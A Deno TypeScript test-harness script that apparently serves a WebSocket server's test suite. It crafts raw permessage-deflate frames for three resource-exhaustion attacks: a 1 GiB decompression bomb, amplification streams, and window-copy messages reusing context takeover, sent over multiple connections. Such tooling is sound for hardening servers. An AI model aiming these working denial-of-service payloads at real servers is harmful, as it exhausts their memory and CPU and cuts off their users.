/**
 * Compression attacks on a WebSocket server that agrees permessage-deflate
 * (RFC 7692), for tests/compression_attack_test.ts and the fairness bench.
 * Raw sockets, pre-built frames, one JSON object per line on stdout; it
 * checks nothing itself.
 *
 * Modes (`deno run -A deflate_attack.ts MODE --url ws://H:P/echo [flags]`):
 *
 * - `bomb`: each connection sends ONE message that inflates to `--inflate`
 *   bytes of zeros (default 1 GiB; about 1 MiB on the wire) and reports how
 *   the server closed it.
 * - `amplify`: each connection streams messages that inflate to `--size`
 *   bytes of zeros (default 15 MiB; about 15 KiB on the wire), as fast as
 *   the server takes them, and reads (counts) every echo.
 * - `windowcopy`: each connection sends one 32 KiB message of random bytes,
 *   then streams tiny messages (a few hundred bytes) that copy all 32 KiB
 *   from the shared window (context takeover), `--batch` per write, reading
 *   every echo.
 *
 * A server whose terms rule the attack out (windowcopy against a server that
 * asks for client_no_context_takeover) gets `{"event":"unsupported",…}`.
 *
 * Every connection prints `{"event":"open","local":…}` once upgraded and
 * `{"event":"done","local":…,"sent":…,"echoed":…,"code":…,"reason":…,"ms":…}`
 * when it ends: at the server's close, at `--duration` (seconds), or when
 * stdin ends (with `--until-stdin`).
 *
 * @module
 */

import { parseArgs } from "node:util";
import zlib from "node:zlib";
import { Buffer } from "node:buffer";
import { createHash } from "node:crypto";
import { concat as join, frame as rawFrame } from "../helpers/raw.ts";

const MiB = 1024 * 1024;
const TAIL_LEN = 4; // the 00 00 FF FF a sender strips (RFC 7692 §7.2.1)

const { values, positionals } = parseArgs({
  args: Deno.args,
  allowPositionals: true,
  options: {
    url: { type: "string" },
    conns: { type: "string", default: "1" },
    size: { type: "string", default: String(15 * MiB) },
    inflate: { type: "string", default: String(1024 * MiB) },
    batch: { type: "string", default: "64" },
    duration: { type: "string", default: "3600" },
    "until-stdin": { type: "boolean", default: false },
  },
});
const mode = positionals[0];
if (!values.url || !["bomb", "amplify", "windowcopy"].includes(mode)) {
  console.error("usage: deflate_attack.ts bomb|amplify|windowcopy --url ws://H:P/echo [flags]");
  Deno.exit(2);
}
const url = new URL(values.url);
const conns = Number(values.conns);
const durationMs = Number(values.duration) * 1000;

function emit(o: Record<string, unknown>): void {
  console.log(JSON.stringify(o));
}

/** A masked client frame, compressed (RSV1) unless `compressed` is false (tests/helpers/raw.ts builds it). */
function frame(opcode: number, payload: Uint8Array, compressed: boolean): Uint8Array {
  return rawFrame(opcode, payload, { mask: true, rsv: compressed ? 4 : 0 });
}

function concat(parts: Uint8Array[]): Uint8Array {
  return join(...parts);
}

/**
 * Raw DEFLATE of `total` zeros, built from one sync-flushed 16 MiB segment
 * repeated (each segment starts with a literal and copies at distance 1, so
 * the concatenation is one valid stream), without its final 00 00 FF FF.
 */
function zeros(total: number): Uint8Array {
  const seg = Math.min(total, 16 * MiB);
  const one = new Uint8Array(
    zlib.deflateRawSync(new Uint8Array(seg), { finishFlush: zlib.constants.Z_SYNC_FLUSH }),
  );
  const parts: Uint8Array[] = [];
  for (let done = 0; done + seg <= total; done += seg) parts.push(one);
  const all = concat(parts);
  return all.subarray(0, all.length - TAIL_LEN);
}

/** The first (random, 32 KiB) and the repeated (window-copying) message of windowcopy. */
async function windowCopy(): Promise<[Uint8Array, Uint8Array]> {
  const block = crypto.getRandomValues(new Uint8Array(32 * 1024));
  const d = zlib.createDeflateRaw({ windowBits: 15 });
  const push = (input: Uint8Array) =>
    new Promise<Uint8Array>((resolve) => {
      const chunks: Buffer[] = [];
      const onData = (c: Buffer) => chunks.push(c);
      d.on("data", onData);
      d.write(input);
      d.flush(zlib.constants.Z_SYNC_FLUSH, () => {
        d.off("data", onData);
        const all = new Uint8Array(Buffer.concat(chunks));
        resolve(all.subarray(0, all.length - TAIL_LEN));
      });
    });
  const a = await push(block);
  const b = await push(block);
  d.close();
  return [a, b];
}

/** The server's terms make this attack impossible (e.g. no context takeover for windowcopy). */
class Unsupported extends Error {}

/** Connects and upgrades with permessage-deflate; returns the conn and any bytes after the head. */
async function open(): Promise<[Deno.Conn, Uint8Array]> {
  const conn = await Deno.connect({ hostname: url.hostname, port: Number(url.port) });
  const key = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(16))));
  const head = [
    `GET ${url.pathname} HTTP/1.1`,
    `Host: ${url.host}`,
    "Upgrade: websocket",
    "Connection: Upgrade",
    `Sec-WebSocket-Key: ${key}`,
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Extensions: permessage-deflate",
    "",
    "",
  ].join("\r\n");
  await writeAll(conn, new TextEncoder().encode(head));
  let got: Uint8Array = new Uint8Array(0);
  const buf = new Uint8Array(4096);
  while (true) {
    const n = await conn.read(buf);
    if (n === null) throw new Error("EOF during the handshake");
    got = concat([got, buf.subarray(0, n)]);
    const text = new TextDecoder("latin1").decode(got);
    const end = text.indexOf("\r\n\r\n");
    if (end < 0) continue;
    const accept = createHash("sha1").update(key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11")
      .digest("base64");
    if (!text.startsWith("HTTP/1.1 101") || !text.includes(accept)) {
      throw new Error(`upgrade refused: ${text.slice(0, end)}`);
    }
    const agreed = /^sec-websocket-extensions:(.*)$/im.exec(text.slice(0, end))?.[1] ?? "";
    if (!/permessage-deflate/i.test(agreed)) {
      throw new Error("the server did not agree permessage-deflate");
    }
    if (mode === "windowcopy" && /client_no_context_takeover/i.test(agreed)) {
      throw new Unsupported("the server asks for client_no_context_takeover: no shared window");
    }
    return [conn, got.subarray(end + 4)];
  }
}

async function writeAll(conn: Deno.Conn, bytes: Uint8Array): Promise<void> {
  let off = 0;
  while (off < bytes.length) off += await conn.write(bytes.subarray(off));
}

/** Counts data messages and finds the close frame, keeping nothing else. */
class Counter {
  echoed = 0;
  code: number | null = null;
  reason = "";
  #head = new Uint8Array(14);
  #headLen = 0;
  #skip = 0;
  #op = 0;
  #fin = false;
  #close: number[] | null = null;

  feed(bytes: Uint8Array): void {
    let i = 0;
    while (i < bytes.length && this.code === null) {
      if (this.#skip > 0) {
        const n = Math.min(this.#skip, bytes.length - i);
        if (this.#close) this.#close.push(...bytes.subarray(i, i + n));
        this.#skip -= n;
        i += n;
        if (this.#skip === 0) this.#done();
        continue;
      }
      this.#head[this.#headLen++] = bytes[i++];
      if (this.#headLen < 2) continue;
      const l7 = this.#head[1] & 0x7f;
      const need = 2 + (l7 === 126 ? 2 : l7 === 127 ? 8 : 0);
      if (this.#headLen < need) continue;
      this.#fin = (this.#head[0] & 0x80) !== 0;
      this.#op = this.#head[0] & 0x0f;
      let len = l7;
      if (l7 === 126) len = (this.#head[2] << 8) | this.#head[3];
      if (l7 === 127) len = Number(new DataView(this.#head.buffer).getBigUint64(2));
      this.#headLen = 0;
      this.#skip = len;
      this.#close = this.#op === 0x8 ? [] : null;
      if (len === 0) this.#done();
    }
  }

  #done(): void {
    if (this.#close) {
      const p = this.#close;
      this.code = p.length >= 2 ? (p[0] << 8) | p[1] : 1005;
      this.reason = new TextDecoder().decode(Uint8Array.from(p.slice(2)));
      this.#close = null;
    } else if (this.#fin && this.#op !== 0x9 && this.#op !== 0xa) {
      this.echoed++;
    }
  }
}

const stop = Promise.withResolvers<void>();
setTimeout(stop.resolve, durationMs);
if (values["until-stdin"]) {
  (async () => {
    for await (const _ of Deno.stdin.readable) { /* until stdin ends */ }
    stop.resolve();
  })();
}

/** Runs one connection: `first` once, then `unit` (one write each) until the end. */
async function attack(first: Uint8Array | null, unit: Uint8Array | null, perUnit: number) {
  const started = performance.now();
  const [conn, rest] = await open();
  const local = conn.localAddr as Deno.NetAddr;
  const name = `${local.hostname}:${local.port}`;
  emit({ event: "open", local: name });
  const count = new Counter();
  count.feed(rest);
  let sent = 0;
  let ended = false;
  const reading = (async () => {
    const buf = new Uint8Array(256 * 1024);
    try {
      while (count.code === null) {
        const n = await conn.read(buf);
        if (n === null) break;
        count.feed(buf.subarray(0, n));
      }
    } catch { /* reset */ }
    ended = true;
  })();
  const writing = (async () => {
    try {
      if (first) {
        await writeAll(conn, first);
        sent++;
      }
      while (unit && !ended) {
        await writeAll(conn, unit);
        sent += perUnit;
      }
    } catch { /* the server closed it */ }
  })();
  await Promise.race([reading, stop.promise]);
  emit({
    event: "done",
    local: name,
    sent,
    echoed: count.echoed,
    code: count.code,
    reason: count.reason,
    ms: Math.round(performance.now() - started),
  });
  try {
    conn.close();
  } catch { /* closed */ }
  await Promise.allSettled([reading, writing]);
}

let first: Uint8Array | null = null;
let unit: Uint8Array | null = null;
let perUnit = 1;
if (mode === "bomb") {
  first = frame(0x2, zeros(Number(values.inflate)), true);
} else if (mode === "amplify") {
  unit = frame(0x2, zeros(Number(values.size)), true);
} else {
  const [a, b] = await windowCopy();
  first = frame(0x2, a, true);
  perUnit = Number(values.batch);
  const one = frame(0x2, b, true);
  unit = concat(Array.from({ length: perUnit }, () => one));
}
await Promise.all(
  Array.from({ length: conns }, () =>
    attack(first, unit, perUnit).catch((err) => {
      emit({
        event: err instanceof Unsupported ? "unsupported" : "error",
        error: String(err?.message ?? err),
      });
    })),
);
emit({ event: "finished" });
Deno.exit(0);
